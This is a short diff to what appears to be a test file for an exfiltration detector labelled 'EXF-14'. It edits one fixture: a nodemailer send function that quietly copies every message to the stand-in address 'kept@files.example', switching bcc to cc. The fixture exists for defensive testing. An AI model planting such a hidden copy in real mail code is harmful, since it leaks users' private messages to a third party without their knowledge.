@@ -252,7 +252,7 @@ describeVerdicts("EXF-14", {
     "a copy of what a caller sends": `
       const nodemailer = require("nodemailer");
       exports.send = (options, { to, subject, text }) =>
-        nodemailer.createTransport(options).sendMail({ to, subject, text, bcc: "kept@files.example" });`,
+        nodemailer.createTransport(options).sendMail({ to, subject, text, cc: "kept@files.example" });`,
   },
   passes: {
     "an archive out of a setting": `
